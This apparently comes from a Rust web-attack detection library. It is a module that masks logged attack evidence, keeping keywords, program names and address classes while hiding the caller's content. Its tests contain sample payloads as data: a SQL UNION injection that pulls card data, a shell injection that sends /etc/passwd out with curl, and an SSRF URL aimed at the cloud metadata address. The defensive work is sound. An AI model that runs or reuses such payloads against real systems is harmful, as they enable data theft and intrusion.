//! Evidence without content: what a reader needs to understand an attack, and nothing that the caller wrote.
//!
//! Inside every range that came from an input, words become `w` and numbers `0`; keywords, operators, quotes, known
//! programs, names of sensitive files, URL schemes and the class of an address stay. In SQL the content of every literal
//! goes as well, whoever wrote it. The shape survives, so that a masked statement still shows what was wrong with it.

use crate::detectors::{command_injection, path_traversal};
use crate::link::Linker;
use crate::{Inputs, Taint};
use alloc::{format, string::String, vec, vec::Vec};
use buckler_text::{address, js, sql};
use buckler_types::{Evidence, OperationKind};
use core::ops::Range;

/// Bytes that stay on either side of the range.
const MARGIN: usize = 1500;

/// The evidence with its text masked, cut to the surroundings of its range, and its positions moved along.
///
/// `inputs` are those of the invocation: text of other inputs in the same operation is masked like the one that the
/// evidence is about.
pub fn mask(evidence: &Evidence, inputs: &Inputs) -> Evidence {
    let window = window(evidence);
    let text = evidence.text.get(window.clone()).unwrap_or_default();
    let shift = window.start;
    let local = |range: &Range<u32>| {
        (range.start as usize).clamp(shift, window.end) - shift..(range.end as usize).clamp(shift, window.end) - shift
    };
    let range = local(&evidence.range);
    let secret = secrets(evidence.kind, text, &range, &Linker::default().link(inputs, text.as_bytes()).taint);
    let mut masked = Masked::default();
    masked.run(evidence.kind, text, &secret, &range);
    let moved = |range: Range<usize>| masked.place(range.start)..masked.place(range.end);
    Evidence {
        text: masked.text.clone(),
        range: moved(range.clone()),
        tokens: evidence.tokens.iter().map(|token| moved(local(token))).filter(|token| !token.is_empty()).collect(),
        ..evidence.clone()
    }
}

/// The part of the text that is shown, on borders of characters.
fn window(evidence: &Evidence) -> Range<usize> {
    let text = &evidence.text;
    let start = (evidence.range.start as usize).saturating_sub(MARGIN);
    let end = (evidence.range.end as usize).min(evidence.range.start as usize + MARGIN) + MARGIN;
    floor(text, start)..floor(text, end)
}

fn floor(text: &str, at: usize) -> usize {
    (0..=at.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0)
}

/// Which bytes hold content.
fn secrets(kind: OperationKind, text: &str, range: &Range<usize>, taint: &Taint) -> Vec<bool> {
    let mut secret = vec![taint.coarse; text.len()];
    let mut hide = |range: Range<usize>| {
        if let Some(bytes) = secret.get_mut(range) {
            bytes.fill(true);
        }
    };
    hide(range.clone());
    taint.ranges.iter().for_each(|range| hide(range.start..range.end));
    if kind == OperationKind::Sql {
        let tokens = sql::Lexer::new(text, sql::Dialect::STANDARD);
        tokens.filter(|token| token.is_delimited()).for_each(|token| hide(token.inner()));
    }
    secret
}

/// The masked text, and where each place of the old one went.
#[derive(Default)]
struct Masked {
    text: String,
    /// Old place, new place; both rise.
    places: Vec<(usize, u32)>,
}

impl Masked {
    fn run(&mut self, kind: OperationKind, text: &str, secret: &[bool], range: &Range<usize>) {
        let mut rest = text;
        while let Some(first) = rest.chars().next() {
            let at = text.len() - rest.len();
            self.places.push((at, self.text.len() as u32));
            let length = run_length(rest, at, secret, range);
            let (piece, after) = rest.split_at_checked(length).unwrap_or((rest, ""));
            match secret.get(at) {
                Some(true) if is_content(first) => self.replace(kind, piece),
                _ => self.text.push_str(piece),
            }
            rest = after;
        }
        self.places.push((text.len(), self.text.len() as u32));
    }

    /// Writes what stays of a piece of content.
    fn replace(&mut self, kind: OperationKind, piece: &str) {
        if let Some(class) = address_class(piece) {
            self.text.push_str(&format!("[{}]", class.name()));
            return;
        }
        for part in piece.split_inclusive(['.', '-']) {
            let word = part.trim_end_matches(['.', '-']);
            if is_known(kind, word) {
                self.text.push_str(word);
            } else {
                self.text.push(if word.bytes().all(|byte| byte.is_ascii_digit()) { '0' } else { 'w' });
            }
            self.text.push_str(part.strip_prefix(word).unwrap_or_default());
        }
    }

    /// Where an old place went; inside a replaced word, the start of what stands for it.
    fn place(&self, old: usize) -> u32 {
        let after = self.places.partition_point(|(place, _)| *place <= old);
        let Some((place, new)) = after.checked_sub(1).and_then(|at| self.places.get(at)) else { return 0 };
        let next = self.places.get(after).map_or(*new, |(_, next)| *next);
        (*new + (old - place) as u32).min(next)
    }
}

/// Length of the piece that begins here: it ends where content begins or ends, and at the borders of the range.
fn run_length(rest: &str, at: usize, secret: &[bool], range: &Range<usize>) -> usize {
    let hidden = secret.get(at);
    let mut letters = rest.char_indices();
    let content = letters.next().is_some_and(|(_, first)| is_content(first));
    let ends = |(place, letter): &(usize, char)| {
        let here = at + place;
        let joins = content && matches!(letter, '.' | '-') && follows(rest, *place, is_content);
        secret.get(here) != hidden
            || here == range.start
            || here == range.end
            || is_content(*letter) != content && !joins
    };
    letters.find(ends).map_or(rest.len(), |(place, _)| place)
}

/// Whether the character after the one at `place` is of that kind.
fn follows(rest: &str, place: usize, kind: fn(char) -> bool) -> bool {
    rest.get(place + 1..).and_then(|after| after.chars().next()).is_some_and(kind)
}

/// Letters and digits of every script: what can carry meaning.
fn is_content(letter: char) -> bool {
    letter.is_alphanumeric() || letter == '_' || !letter.is_ascii()
}

/// The class of what can only be an address. Bare words and small numbers are looked up too, and mean other things.
fn address_class(piece: &str) -> Option<address::AddressClass> {
    let telling = piece.contains('.')
        || piece == "localhost"
        || piece.len() >= 8 && piece.starts_with(|c: char| c.is_ascii_digit());
    let class = address::parse(piece).map(address::class).or_else(|| address::class_of_name(piece));
    class.filter(|_| telling)
}

/// Words that say what was attempted and nothing about whose data it was.
fn is_known(kind: OperationKind, word: &str) -> bool {
    const SCHEMES: [&str; 9] = ["http", "https", "file", "ftp", "gopher", "dict", "ldap", "jar", "javascript"];
    const SHELL: [&str; 14] =
        ["if", "then", "else", "fi", "for", "in", "do", "done", "while", "case", "esac", "function", "IFS", "dev"];
    match kind {
        OperationKind::Sql => sql::role(word.as_bytes()) != buckler_text::token::Role::Name || is_statement_word(word),
        OperationKind::Code => js::role(word.as_bytes()) != buckler_text::token::Role::Name,
        OperationKind::Shell | OperationKind::Exec => {
            SHELL.contains(&word)
                || SCHEMES.contains(&word)
                || command_injection::is_known_program(word)
                || path_traversal::is_sensitive_name(word)
        }
        _ => SCHEMES.contains(&word) || path_traversal::is_sensitive_name(word),
    }
}

/// Keywords of SQL that begin statements or clauses and never stand beside an operand.
fn is_statement_word(word: &str) -> bool {
    const WORDS: [&str; 24] = [
        "select", "insert", "update", "delete", "drop", "alter", "create", "truncate", "grant", "table", "into",
        "values", "set", "from", "where", "union", "all", "distinct", "having", "exec", "execute", "declare", "column",
        "order",
    ];
    WORDS.iter().any(|known| known.eq_ignore_ascii_case(word))
}

#[cfg(test)]
mod tests {
    use super::*;
    use alloc::string::ToString;
    use buckler_types::{DecoderChain, DetectorId, Value, ValueKind, ValueVisitor};

    fn check(kind: OperationKind, text: &str, inputs: &[&str], expected: &str) {
        let mut indexed = Inputs::new(7);
        for (number, input) in inputs.iter().enumerate() {
            let offset = number as u32;
            let chain = DecoderChain::new();
            indexed.value(Value { bytes: input.as_bytes(), kind: ValueKind::Text, offset, chain, container: false });
        }
        let start = text.find(inputs[0]).unwrap() as u32;
        let end = start + inputs[0].len() as u32;
        let evidence = Evidence {
            detector: DetectorId::SqlInjection,
            kind,
            text: text.to_string(),
            argument: None,
            range: start..end,
            tokens: core::iter::once(end - 1..end).collect(),
            reason: "x".into(),
            input: None,
            coarse: false,
        };
        let masked = mask(&evidence, &indexed);
        let (start, end) = (masked.range.start as usize, masked.range.end as usize);
        let shown = format!(
            "{}⟦{}⟧{}",
            &masked.text.get(..start).unwrap(),
            &masked.text.get(start..end).unwrap(),
            &masked.text.get(end..).unwrap()
        );
        assert_eq!(shown, expected);
    }

    #[test]
    fn sql_keeps_keywords_quotes_and_the_names_of_the_application() {
        check(
            OperationKind::Sql,
            "SELECT total FROM orders WHERE ref = 'zebra' UNION SELECT card FROM vault -- ' AND kind = 'gold'",
            &["zebra' UNION SELECT card FROM vault -- "],
            "SELECT total FROM orders WHERE ref = '⟦w' UNION SELECT w FROM w -- ⟧' AND w = 'w'",
        );
    }

    #[test]
    fn other_inputs_of_the_same_statement_are_masked_too() {
        check(
            OperationKind::Sql,
            "SELECT 1 FROM t WHERE a = 1 OR 17=17 AND mail = \"berta@example.com\"",
            &["1 OR 17=17", "berta@example.com"],
            "SELECT 1 FROM t WHERE a = ⟦0 OR 0=0⟧ AND mail = \"w@w.w\"",
        );
    }

    #[test]
    fn commands_keep_known_programs_and_sensitive_files() {
        check(
            OperationKind::Shell,
            "convert holiday.png; curl http://10.0.0.7/drop -d @/etc/passwd out.pdf",
            &["holiday.png; curl http://10.0.0.7/drop -d @/etc/passwd"],
            "convert ⟦w.w; curl http://[private address]/w -w @/etc/passwd⟧ out.pdf",
        );
    }

    #[test]
    fn urls_keep_scheme_and_class_of_the_address() {
        check(
            OperationKind::Url,
            "http://169.254.169.254/latest/user-data",
            &["http://169.254.169.254/latest/user-data"],
            "⟦http://[metadata address]/w/w-w⟧",
        );
    }

    #[test]
    fn text_that_is_not_ascii_is_content() {
        check(OperationKind::Code, "f(\"Müller\" + grüße())", &["Müller\" + grüße()"], "f(\"⟦w\" + w()⟧)");
    }

    #[test]
    fn a_long_text_is_cut_around_its_range() {
        let text = format!("SELECT {}'x' OR 1=1{}", "a, ".repeat(9000), " AND b".repeat(9000));
        let mut indexed = Inputs::new(7);
        let chain = DecoderChain::new();
        indexed.value(Value { bytes: b"x' OR 1=1", kind: ValueKind::Text, offset: 0, chain, container: false });
        let start = text.find("x' OR").unwrap() as u32;
        let evidence = Evidence {
            detector: DetectorId::SqlInjection,
            kind: OperationKind::Sql,
            text,
            argument: None,
            range: start..start + 9,
            tokens: Vec::new(),
            reason: "x".into(),
            input: None,
            coarse: false,
        };
        let masked = mask(&evidence, &indexed);
        assert!(masked.text.len() <= 2 * MARGIN + 64);
        assert_eq!(masked.text.get(masked.range.start as usize..masked.range.end as usize), Some("w' OR 0=0"));
    }
}
